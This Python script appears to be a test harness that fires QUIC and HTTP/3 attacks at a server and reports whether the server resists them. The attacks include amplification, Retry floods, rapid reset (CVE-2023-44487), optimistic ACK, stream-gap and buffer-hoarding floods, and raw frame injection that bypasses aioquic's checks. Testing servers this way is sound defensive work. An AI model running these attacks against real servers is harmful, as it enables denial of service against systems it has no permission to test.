"""Attacks of the tests on QUIC and HTTP/3: h3_attack.py ADDRESS PORT ATTACK. Prints what the server did, in one line."""
import asyncio
import os
import socket
import sys
import time

sys.path.insert(0, "/usr/local/lib/aioquic")
from aioquic.asyncio.client import connect
from aioquic.asyncio.protocol import QuicConnectionProtocol
from aioquic.buffer import Buffer, encode_uint_var
from aioquic.h3.connection import H3_ALPN, H3Connection
from aioquic.quic.configuration import QuicConfiguration
from aioquic.quic.connection import QuicConnection
from aioquic.quic.events import ConnectionTerminated
from aioquic.quic.packet import QuicFrameType

PATIENCE = 60
FIELDS = [(b":method", b"GET"), (b":scheme", b"https"), (b":authority", b"localhost"), (b":path", b"/")]


def configuration():
    """Client that trusts any certificate."""
    return QuicConfiguration(is_client=True, alpn_protocols=H3_ALPN, server_name="localhost", verify_mode=False)


def initial():
    """Datagrams with which a client begins."""
    client = QuicConnection(configuration=configuration())
    client.connect((ADDRESS, PORT), now=time.time())
    return [data for data, _ in client.datagrams_to_send(now=time.time())]


def received(plug, seconds):
    """Datagrams that arrive until the server is silent for so long."""
    plug.settimeout(seconds)
    datagrams = []
    try:
        while True:
            datagrams.append(plug.recv(65536))
    except TimeoutError:
        return datagrams


def amplification():
    """Sends one flight and no acknowledgement. Counts what comes back, retransmissions included."""
    plug = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sent = initial()
    for datagram in sent:
        plug.sendto(datagram, (ADDRESS, PORT))
    plug.settimeout(PATIENCE)
    back = len(plug.recv(65536)) + sum(map(len, received(plug, 4)))
    return "bounded" if 0 < back <= 3 * sum(map(len, sent)) else f"{back} bytes"


def flood():
    """Begins handshakes from many addresses that never respond, until all get Retry packets. A slow server may lose some, so
    the flood goes on until it is fast enough."""
    deadline, retries = time.monotonic() + PATIENCE, 0
    while retries < 200 and time.monotonic() < deadline:
        plugs, retries = [], 0
        for _ in range(400):
            plug = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            for datagram in initial():
                plug.sendto(datagram, (ADDRESS, PORT))
            plugs.append(plug)
        for plug in plugs:
            first = received(plug, 0.01)
            # Long header, type Retry (RFC 9000, section 17.2.5).
            retries += bool(first) and first[0][0] & 0xF0 == 0xF0
    return "retry" if retries >= 200 else f"{retries} Retry packets"


def garbage():
    """Sends empty and random datagrams. The server must not respond to short ones."""
    plug = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    for length in [0, 1, 7, 8, 20] * 200:
        plug.sendto(os.urandom(length), (ADDRESS, PORT))
    # Headers of version 1 that are too short for a first packet.
    plug.sendto(b"\xc0\0\0\0\1\x08" + bytes(100), (ADDRESS, PORT))
    back = sum(map(len, received(plug, 1)))
    return "silent" if back == 0 else f"{back} bytes"


def versions():
    """Asks for a version that is unknown. The list must have version 1 only, and values without meaning (GREASE)."""
    plug = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    plug.sendto(b"\xc0\x1a\x2a\x3a\x4a\x08" + b"12345678" + b"\x08" + b"abcdefgh" + bytes(1200), (ADDRESS, PORT))
    plug.settimeout(PATIENCE)
    answer = plug.recv(65536)
    rest = answer[5 + 1 + 8 + 1 + 8:]
    known = [rest[at:at + 4] for at in range(0, len(rest), 4)]
    known = [version for version in known if version[0] & 15 != 10]
    return "version 1" if answer[1:5] == bytes(4) and known == [b"\0\0\0\1"] else f"{answer}"


class Attacker(QuicConnectionProtocol):
    """Client that may send any frame after the handshake."""

    def __init__(self, *arguments, **named):
        super().__init__(*arguments, **named)
        self.http = H3Connection(self._quic)
        self.end = asyncio.get_running_loop().create_future()
        self.pings = 0

    def quic_event_received(self, event):
        """Notes the end."""
        if isinstance(event, ConnectionTerminated) and not self.end.done():
            self.end.set_result(event.error_code)

    def frames(self, kind, payloads):
        """Sends frames of QUIC in packets of their own, bypassing the library's rules."""
        for payload in payloads:
            self.packet_with(kind, payload)

    def packet_with(self, kind, payload):
        """Lets the next packet begin with a frame."""
        quic = self._quic
        write = quic._write_application

        def injecting(builder, network_path, now):
            builder.start_packet(*start)
            builder.start_frame(kind, capacity=len(payload) + 8).push_bytes(payload)
            write(builder, network_path, now)

        from aioquic.quic.packet import QuicPacketType
        from aioquic import tls
        start = (QuicPacketType.ONE_RTT, quic._cryptos[tls.Epoch.ONE_RTT])
        quic._write_application = injecting
        self.transmit()
        quic._write_application = write


async def rapid_reset(attacker):
    """Opens requests and resets them at once (CVE-2023-44487)."""
    for _ in range(3000):
        if attacker.end.done():
            break
        stream = attacker._quic.get_next_available_stream_id()
        # The library would reset streams that it may not open yet.
        while stream // 4 >= attacker._quic._remote_max_streams_bidi and not attacker.end.done():
            await asyncio.sleep(0.001)
        attacker.http.send_headers(stream, FIELDS, False)
        attacker._quic.reset_stream(stream, 0x10C)
        attacker.transmit()
        await asyncio.sleep(0)


async def priority_updates(attacker):
    """Changes the priority of a stream again and again."""
    payload = encode_uint_var(0) + b"u=1"
    frame = encode_uint_var(0xF0700) + encode_uint_var(len(payload)) + payload
    for _ in range(300):
        attacker._quic.send_stream_data(attacker.http._local_control_stream_id, frame * 20)
        attacker.transmit()
        await asyncio.sleep(0)


async def closed_control_stream(attacker):
    """Ends the control stream."""
    attacker._quic.send_stream_data(attacker.http._local_control_stream_id, b"", True)
    attacker.transmit()


async def retire_flood(attacker):
    """Retires a connection ID that the server has not issued."""
    attacker.frames(QuicFrameType.RETIRE_CONNECTION_ID, [encode_uint_var(1000)])


async def stream_gaps(attacker):
    """Sends single bytes with gaps between them, up to the end of the stream's window and beyond."""
    for offset in range(2, 1 << 18, 64):
        if attacker.end.done():
            break
        # STREAM with offset and length (RFC 9000, section 19.8).
        payload = encode_uint_var(0) + encode_uint_var(offset) + encode_uint_var(1) + b"x"
        attacker.packet_with(0x0E, payload)
        await asyncio.sleep(0)


async def hoard(attacker):
    """Sends content of which the beginning never arrives, on many streams."""
    for number in range(8):
        for offset in range(2, 900_000, 1100):
            if attacker.end.done():
                return
            # STREAM with offset and length (RFC 9000, section 19.8).
            payload = encode_uint_var(4 * number) + encode_uint_var(offset) + encode_uint_var(1100) + bytes(1100)
            attacker.packet_with(0x0E, payload)
            await asyncio.sleep(0)


async def optimistic_ack(attacker):
    """Acknowledges packets that the server has not sent (CVE-2025-4820)."""
    attacker.frames(QuicFrameType.ACK, [encode_uint_var(1 << 20) + encode_uint_var(0) * 2 + encode_uint_var(1 << 19)])


async def on_connection(attack):
    """Runs an attack on a connection, and waits for its end."""
    async with connect(ADDRESS, PORT, configuration=configuration(), create_protocol=Attacker) as attacker:
        await attack(attacker)
        return f"closed {await asyncio.wait_for(attacker.end, PATIENCE)}"


ADDRESS, PORT, ATTACK = sys.argv[1], int(sys.argv[2]), sys.argv[3]
attack = globals()[ATTACK]
print(asyncio.run(on_connection(attack)) if asyncio.iscoroutinefunction(attack) else attack())
